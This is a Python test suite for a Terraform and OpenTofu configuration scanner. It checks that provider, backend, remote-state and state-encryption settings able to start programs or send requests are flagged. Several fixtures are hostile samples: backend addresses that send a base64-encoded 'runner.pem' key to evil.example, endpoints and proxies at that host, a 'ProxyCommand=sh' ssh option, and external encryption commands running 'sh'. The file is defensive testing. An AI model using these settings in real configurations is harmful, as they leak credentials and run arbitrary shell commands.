"""Which settings of providers, backends and remote states start something, however they are written."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tfops.config_review import Allowance, Review
from tfops.effects import Effect
from tfops.modules import scan
from tfops.programs import named_programs
from tfops.stacks import Stack
from tfops.untrusted import backend_programs, code_findings

REMOTE = 'data "terraform_remote_state" "x" {{\n  backend = {backend}\n  config  = {config}\n}}\n'


def effects(text: str, path: str = "main.tf") -> tuple[Effect, ...]:
    return scan(text.encode(), path).effects


def said(text: str, path: str = "main.tf") -> list[tuple[str, str]]:
    return [(effect.kind, effect.detail) for effect in effects(text, path)]


def remote(config: str, backend: str = '"s3"') -> list[tuple[str, str]]:
    return said(REMOTE.format(backend=backend, config=config))


HIDDEN = [
    "local.c",
    "(local.c)",
    '"${local.c}"',
    'merge({ bucket = "b" }, local.c)',
    "var.x ? { bucket = var.a } : local.c",
    "{ for k, v in local.c : k => v }",
    "{ for k in local.c : k => {} }",
    "{ (local.name) = 1 }",
    '{ "${local.name}" = 1 }',
    "[local.c][0]",
    "jsondecode(file(var.x))",
]


@pytest.mark.parametrize("config", HIDDEN)
def test_attack_the_settings_of_a_remote_state_are_hidden_in_an_expression(config):
    assert remote(config) == [("exec", "config"), ("http", "config")]


def test_attack_the_settings_of_a_remote_state_are_hidden_in_an_expression_in_json():
    for config in ("${local.c}", "${merge({}, local.c)}", {"${local.name}": 1}):
        document = {"data": {"terraform_remote_state": {"x": {"backend": "s3", "config": config}}}}
        assert said(json.dumps(document), "x.tf.json") == [("exec", "config"), ("http", "config")]


@pytest.mark.parametrize("backend", ["var.b", '"${var.b}"', 'var.x ? "s3" : "http"'])
def test_attack_the_backend_of_a_remote_state_is_an_expression(backend):
    assert remote('{ key = "k" }', backend) == [("exec", "backend"), ("http", "backend")]


@pytest.mark.parametrize(
    ("config", "setting"),
    [
        ('{ config_path = "kc.yaml" }', "config_path"),
        ('{ config_path = "/proc/self/cwd/kc.yaml" }', "config_path"),
        ('{ config_path = pathexpand("~/.kube/config") }', "config_path"),
        ('{ config_paths = ["~/.kube/config", "kc.yaml"] }', "config_paths"),
        ("{ config_paths = local.paths }", "config_paths"),
        ("{ exec = local.e }", "exec"),
        ("{ assume_role = local.x }", "assume_role"),
        ("{ assume_role_with_web_identity = merge(local.x) }", "assume_role_with_web_identity"),
        ("{ assume_role = { (local.k) = 1 } }", "assume_role"),
        ('{ credentials = file("account.json") }', "credentials"),
        ('{ shared_credentials_file = "x" }', "shared_credentials_file"),
    ],
)
def test_a_setting_of_a_remote_state_that_may_start_a_program_is_found(config, setting):
    assert remote(config) == [("exec", setting)]


@pytest.mark.parametrize(
    ("backend", "config", "setting"),
    [
        ("http", '{ address = "https://evil.example/${base64encode(file("runner.pem"))}" }', "address"),
        ("http", '{ address = "https://gitlab.example.org/state" }', "address"),
        ("s3", '{ endpoint = "https://evil.example" }', "endpoint"),
        ("s3", '{ endpoints = { s3 = "https://evil.example" } }', "endpoints"),
        ("s3", '{ sts_endpoint = "https://evil.example" }', "sts_endpoint"),
        ("s3", '{ http_proxy = "http://evil.example" }', "http_proxy"),
        ("consul", '{ address = "evil.example" }', "address"),
        ("pg", '{ conn_str = "postgres://evil.example/${var.x}" }', "conn_str"),
        ("remote", '{ hostname = "${var.x}.evil.example" }', "hostname"),
        ("azurerm", '{ metadata_host = "evil.example" }', "metadata_host"),
        ("kubernetes", '{ host = "https://evil.example" }', "host"),
    ],
)
def test_attack_a_remote_state_sends_a_request_where_the_code_says(backend, config, setting):
    assert remote(config, f'"{backend}"') == [("http", setting)]


@pytest.mark.parametrize(
    ("backend", "config"),
    [
        ("s3", '{ bucket = var.bucket, key = "net/${var.env}.tfstate", region = local.region, profile = "prod" }'),
        ("s3", '{\n bucket = "b"\n assume_role = {\n role_arn = var.role\n tags = local.tags\n }\n}'),
        ("s3", '{ assume_role = null, shared_config_files = ["~/.aws/config"] }'),
        ("azurerm", "{ storage_account_name = var.account, container_name = local.c, use_cli = true }"),
        ("gcs", '{ bucket = var.bucket, prefix = "net" }'),
        ("kubernetes", '{ secret_suffix = "s", config_path = "~/.kube/config" }'),
        ("local", '{ path = "${path.module}/../net/terraform.tfstate" }'),
        ("remote", '{ hostname = "app.terraform.io", organization = "o", workspaces = { name = "w" } }'),
        ("s3", "({ bucket = var.b })"),
    ],
)
def test_what_honest_remote_states_say_is_not_found(backend, config):
    assert remote(config, f'"{backend}"') == []


@pytest.mark.parametrize(
    ("body", "setting"),
    [
        ('config_path = "kc.yaml"', "config_path"),
        ("config_paths = local.paths", "config_paths"),
        ("kubernetes = local.k", "kubernetes"),
        ("kubernetes = merge({}, local.k)", "kubernetes"),
        ("kubernetes = { (var.k) = {} }", "kubernetes"),
        ("kubernetes = [local.k]", "kubernetes"),
        ('kubernetes {\n config_path = "kc.yaml"\n }', "config_path"),
        ('dynamic "kubernetes" {\n for_each = [1]\n content {\n exec {}\n }\n }', "exec"),
        ('ssh_opts = ["-o", "ProxyCommand=sh"]', "ssh_opts"),
        ('registry_auth {\n config_file = "x"\n }', "config_file"),
        ("credentials = var.key", "credentials"),
        ('plugins_path = "plugins"', "plugins_path"),
    ],
)
def test_attack_a_provider_starts_a_program_from_the_code(body, setting):
    assert said(f'provider "any" {{\n  {body}\n}}\n') == [("exec", setting)]


@pytest.mark.parametrize(
    "body",
    [
        "region = var.region",
        "assume_role {\n role_arn = var.role\n }",
        'dynamic "assume_role" {\n for_each = var.roles\n content {\n role_arn = assume_role.value\n }\n }',
        "default_tags {\n tags = merge(local.tags, var.more)\n }",
        'endpoints {\n s3 = "http://localhost:4566"\n }',
        'profile = "prod"\n shared_credentials_files = ["~/.aws/credentials"]',
        "host = data.aws_eks_cluster.c.endpoint\n token = data.aws_eks_cluster_auth.c.token",
        "kubernetes = {\n host = var.host\n token = local.token\n }",
        "features {}\n use_cli = true",
        'project = var.project\n impersonate_service_account = "x@y"',
        'config_path = "~/.kube/config"\n config_context = var.context',
        'auth_login {\n path = "auth/aws/login"\n parameters = local.p\n }',
    ],
)
def test_what_honest_providers_say_is_not_found(body):
    assert said(f'provider "any" {{\n  {body}\n}}\n') == []


def test_attack_a_provider_in_json_starts_a_program_from_the_code():
    for body in ({"kubernetes": "${local.k}"}, [{"kubernetes": [{"${var.k}": {}}]}]):
        assert said(json.dumps({"provider": {"helm": body}}), "x.tf.json") == [("exec", "kubernetes")]
    dynamic = {"dynamic": {"exec": {"for_each": [1], "content": {"command": "sh"}}}}
    assert said(json.dumps({"provider": {"kubernetes": dynamic}}), "x.tf.json") == [("exec", "exec")]


@pytest.mark.parametrize(
    ("body", "found"),
    [
        ('backend "kubernetes" {\n config_path = "kc.yaml"\n }', [("exec", "config_path")]),
        ('backend "http" {\n address = "https://gitlab.example.org/state"\n }', []),
        (
            'backend "s3" {\n bucket = "b"\n endpoints = { s3 = "https://minio.example.org" }\n encrypt = true\n }',
            [],
        ),
        ('backend "s3" {\n bucket = var.bucket\n key = "k"\n }', []),
        ('backend "http" {\n address = "https://evil.example/${file("runner.pem")}"\n }', [("http", "address")]),
        ('backend "s3" {\n key = file(var.x)\n endpoint = "https://evil.example"\n }', [("http", "endpoint")]),
        ('cloud {\n hostname = var.h\n workspaces {\n name = "x"\n }\n }', [("http", "hostname")]),
        ('cloud {\n organization = "o"\n workspaces {\n tags = ["a"]\n }\n }', []),
        ('state_store "k8s_x" {\n provider "k8s" {\n exec {}\n }\n }', [("exec", "exec")]),
        ('encryption {\n key_provider "external" "x" {\n command = ["sh"]\n }\n }', [("exec", "external")]),
        ('encryption {\n method "external" "x" {\n encrypt_command = ["sh"]\n }\n }', [("exec", "external")]),
        (
            'encryption {\n key_provider "pbkdf2" "x" {\n passphrase = var.p\n }\n'
            ' method "aes_gcm" "m" {\n keys = key_provider.pbkdf2.x\n }\n }',
            [],
        ),
    ],
)
def test_what_terraform_settles_about_the_state_starts_only_what_is_found(body, found):
    assert said(f"terraform {{\n  {body}\n}}\n") == found


def test_the_encryption_of_a_state_in_json_hides_no_program():
    document = {"terraform": {"encryption": {"key_provider": {"external": {"x": {"command": ["sh"]}}}}}}
    (effect,) = effects(json.dumps(document), "x.tofu.json")
    assert (effect.kind, effect.address) == ("exec", "key_provider.external.x")


@pytest.mark.parametrize("kind", ["external", "local_command", "shell_script"])
def test_data_that_a_program_gives_is_found(kind):
    (effect,) = effects(f'ephemeral "{kind}" "x" {{}}\n')
    assert (effect.kind, effect.address) == ("external", f"ephemeral.{kind}.x")


def test_attack_a_byte_of_nothing_hides_no_program():
    assert said('\0\n data\0 "external" "x" {}\n data "external" "x" {}\n') == [("external", "")]


def test_the_provider_of_a_state_store_and_of_an_import_is_held_against_the_list():
    review = Review(providers=())
    store = {"terraform": {"state_store": {"evil_x": {"provider": {"evil": {}}}}}}
    for document in (store, {"import": [{"to": "x.y", "id": "z", "provider": "evil.a"}]}):
        facts = {"x.tf.json": scan(json.dumps(document).encode(), "x.tf.json")}
        (found,) = code_findings(facts, review, product="terraform")
        assert "registry.terraform.io/hashicorp/evil" in found.what


def test_what_hides_both_a_program_and_a_request_needs_both_allowed():
    facts = {"x.tf": scan(REMOTE.format(backend='"s3"', config="local.c").encode(), "x.tf")}
    for allow in (("exec",), ("http",)):
        review = Review(allow=tuple(Allowance(word) for word in allow))
        assert len(code_findings(facts, review, product="terraform")) == 1
    assert code_findings(facts, Review(allow=(Allowance.EXEC, Allowance.HTTP)), product="terraform") == ()


def test_agreed_settings_of_a_backend_may_name_a_file_that_is_changed():
    settings = (("bucket", "b"), ("shared_config_files", "aws.cfg"), ("config_path", "~/.kube/config"))
    assert named_programs(settings) == ["shared_config_files"]
    stack = Stack(
        id="prod",
        environment="prod@x",
        root="prod",
        workspace="default",
        branch="x",
        backend_config=settings,
    )
    (finding,) = backend_programs(stack, Review())
    assert finding.what == 'backend_config of environment "prod" may start a program (shared_config_files)'
    assert backend_programs(stack, Review(allow=(Allowance.EXEC,))) == ()


VALUES = st.recursive(
    st.sampled_from(["var.x", '"a"', "1", "null", "local.c", "f({ exec = 1 })"]),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3).map(lambda items: f"[{', '.join(items)}]"),
        st.dictionaries(st.sampled_from(["a", "bucket", '"k"', "(var.k)"]), inner, max_size=3).map(
            lambda items: "{ " + ", ".join(f"{name} = {value}" for name, value in items.items()) + " }"
        ),
        inner.map(lambda value: f"({value})"),
        inner.map(lambda value: f"merge({value}, local.c)"),
    ),
    max_leaves=8,
)


@given(value=VALUES)
def test_a_remote_state_whose_settings_are_not_all_written_out_never_passes(value):
    """Whatever is no object with plain names on its first level is refused, and nothing makes the scanner fail."""
    bare = value
    while bare.startswith("(") and bare.endswith(")"):
        bare = bare[1:-1]
    found = remote(value)
    if not bare.startswith("{") and bare != "null" and not bare.startswith("["):
        assert ("exec", "config") in found


@given(name=st.sampled_from(["exec", "config_path", "credentials"]), depth=st.integers(0, 20), value=VALUES)
def test_a_named_program_is_found_at_any_depth(name, depth, value):
    nested = "a = {" * depth + f" {name} = f({value}) " + "}" * depth
    assert ("exec", name) in said(f'provider "p" {{\n{nested}\n}}\n')
